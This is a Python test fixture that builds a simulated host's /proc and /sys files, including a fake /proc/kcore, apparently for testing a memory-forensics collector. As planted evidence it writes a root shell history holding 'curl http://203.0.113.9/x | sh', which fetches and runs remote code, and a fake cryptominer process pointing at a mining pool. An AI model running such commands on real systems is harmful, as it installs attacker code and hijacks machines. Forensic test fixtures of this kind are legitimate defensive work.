"""The memory of a simulated host, as files: `/proc` and `/sys` below a folder, as far as the collector reads them. The
memory is made up and says whose it is; what a real kernel's looks like is shown in a virtual machine (tests/vm).

The tag `local:memory` of an instance says what its kernel is like (see `KINDS`).
"""

from __future__ import annotations

import os
import struct
from pathlib import Path

KINDS = {
    "whole": "gives all of its memory",
    "refused": "refuses it, as with lockdown=confidentiality",
    "half": "shows half of what the instance type has, as one that lies",
    "gaps": "cannot read the last quarter of it",
}
# Where memory begins.
START = 0x10_0000
PAGE = 4096


def content(instance_id: str, size: int) -> bytes:
    """Pages that say whose they are, and which."""
    pages = []
    for number in range(size // PAGE):
        text = f"memory of {instance_id}, page {number}. ".encode()
        pages.append((text * (PAGE // len(text) + 1))[:PAGE])
    return b"".join(pages)


def build(root: Path, instance_id: str, mib: int, kind: str) -> None:
    def put(name: str, data: bytes) -> None:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    size = (mib << 20) // (2 if kind == "half" else 1)
    put("proc/version", b"Linux version 6.1.0-simulated (simulated@host) #1 SMP\n")
    put("proc/sys/kernel/osrelease", b"6.1.0-simulated\n")
    put("proc/kallsyms", b"ffffffff81000000 T _text\n")
    put("proc/cpuinfo", b"flags\t\t: fpu vme\n")
    put("proc/iomem", f"{START:08x}-{START + size - 1:08x} : System RAM\n".encode())
    put("sys/kernel/security/lockdown", b"[none] integrity confidentiality\n")
    put("root/.bash_history", b"curl http://203.0.113.9/x | sh\n")
    put("proc/4242/stat", b"4242 (miner) S 1 4242 4242 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 100 0 0\n")
    put("proc/4242/status", b"Name:\tminer\nUid:\t0\t0\t0\t0\nGid:\t0\t0\t0\t0\n")
    put("proc/4242/cmdline", b"./miner\0--pool\0198.51.100.9\0")
    put("proc/4242/maps", b"")
    put("proc/4242/smaps", b"1000-3000 rw-p 00000000 00:00 0\nRss: 8 kB\nSwap: 0 kB\n")
    put("proc/4242/mem", content(instance_id, 3 * PAGE))
    os.symlink("/tmp/miner (deleted)", root / "proc/4242/exe")
    if kind == "refused":
        put("proc/kcore", b"")
        return
    header = bytearray(64)
    header[:6] = b"\x7fELF\x02\x01"
    struct.pack_into("<Q", header, 32, 64)
    struct.pack_into("<HH", header, 54, 56, 1)
    segment = struct.pack("<IIQQQQQQ", 1, 4, 64 + 56, 0xFFFF_8880_0000_0000 + START, START, size, size, PAGE)
    memory = content(instance_id, size)
    put("proc/kcore", bytes(header) + segment + (memory[: size * 3 // 4] if kind == "gaps" else memory))
